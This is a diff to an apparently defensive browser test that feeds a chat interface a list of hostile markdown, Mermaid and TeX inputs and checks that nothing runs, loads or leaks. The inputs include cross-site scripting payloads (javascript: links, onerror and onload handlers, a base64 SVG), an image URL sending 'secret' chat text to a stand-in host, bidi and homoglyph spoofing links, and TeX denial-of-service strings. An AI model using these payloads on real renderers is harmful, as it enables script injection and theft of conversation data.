@@ -35,8 +35,24 @@ const hostile = [
   "[here](/api/v1/me)",
   "[there](//evil.example/protocol-relative)",
   `\`\`\`mermaid\ngraph TD\nA --> B\nclick A "javascript:ran=1"\nclick B call ran()\n\`\`\``,
+  `\`\`\`mermaid\n%%{init: {"securityLevel": "loose", "htmlLabels": true, "themeCSS": "* { background: url(${evil}/theme) }"}}%%\nflowchart TD\nA["<img src=${evil}/label.png onerror=parent.ran=1>"] --> B\nclick A href "javascript:parent.ran=1"\nstyle B fill:url(${evil}/fill)\n\`\`\``,
+  `\`\`\`mermaid\n---\nconfig:\n  securityLevel: loose\n---\nsequenceDiagram\nA->>B: <script>parent.ran=1</script>\nlink A: go @ javascript:parent.ran=1\n\`\`\``,
   "```html\n<script>ran = 1</script>\n```",
+  '```"onmouseover=ran=1\ncode\n```',
   `$$\\href{javascript:ran=1}{x}$$ $\\includegraphics{${evil}/tex.png}$`,
+  `\\(\\htmlData{onclick=ran=1}{x} \\htmlStyle{background:url(${evil}/style)}{y}\\)`,
+  `\\[\\url{javascript:ran=1} \\includegraphics{${evil}/tex2.png} \\unicode{<script>ran=1</script>}\\]`,
+  "$$\\def\\a{\\a\\a}\\a$$",
+  `$$${"{".repeat(5000)}$$`,
+  "\\[\\rule{9999em}{9999em} \\kern{-9999em} \\raisebox{9999em}{over everything}\\]",
+  "![svg](data:image/svg+xml,<svg/onload=ran=1>)",
+  "![svg64](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+)",
+  `![leak](${evil}/?secret=everything_that_was_said)`,
+  `[![nested](${evil}/nested.png)](${evil}/nested)`,
+  `<${evil}/\u202Egpj.exe>`,
+  `[right\u202Eto left](${evil}/bidi)`,
+  "https://еvil.example/cyrillic",
+  "[#/t/hash](#/t/elsewhere)",
   `| <img src=${evil}/cell onerror=ran=1> | b |\n| --- | --- |\n| [c](javascript:ran=1) | d |`,
   `a footnote[^1]\n\n[^1]: <img src=${evil}/note onerror=ran=1>`,
 ].join("\n\n");
@@ -70,12 +86,18 @@ test("what a hostile model writes runs no script, opens no dialog, and fetches n
   assert.equal(await page.evaluate("typeof ran"), "undefined");
   const elements =
     "script, img, svg image, iframe, object, embed, style, link, base, form, video, audio, details";
-  assert.equal(await page.locator(`.messages :is(${elements})`).count(), 0);
+  // The one kind of image is a diagram that was drawn here: a picture of itself, in which nothing can happen.
+  await answers(page).locator(".drawing img").first().waitFor();
+  assert.equal(await page.locator(`.messages :is(${elements}):not(.drawing > img)`).count(), 0);
+  for (const drawing of await page.locator(".drawing > img").all()) {
+    assert.match((await drawing.getAttribute("src")) ?? "", /^data:image\/svg\+xml,/);
+  }
   const hrefs = (await page.evaluate(
-    "[...document.querySelectorAll('.messages a')].map((a) => a.href + ' ' + a.target + ' ' + a.rel)",
+    "[...document.querySelectorAll('.messages a:not(.note-link)')].map((a) => a.href + ' ' + a.target + ' ' + a.rel)",
   )) as string[];
   assert.ok(hrefs.length > 0, "the links that harm nobody are still links");
-  for (const href of hrefs) assert.match(href, /^https:\/\/evil\.example\/\S+ _blank noopener noreferrer$/);
+  for (const href of hrefs)
+    assert.match(href, /^https:\/\/(?:evil|xn--vil-qdd)\.example\/\S+ _blank noopener noreferrer$/);
   const handlers =
     "[...document.querySelectorAll('.messages *')].filter((e) => [...e.attributes].some(({ name }) => name.startsWith('on'))).length";
   assert.equal(await page.evaluate(handlers), 0);
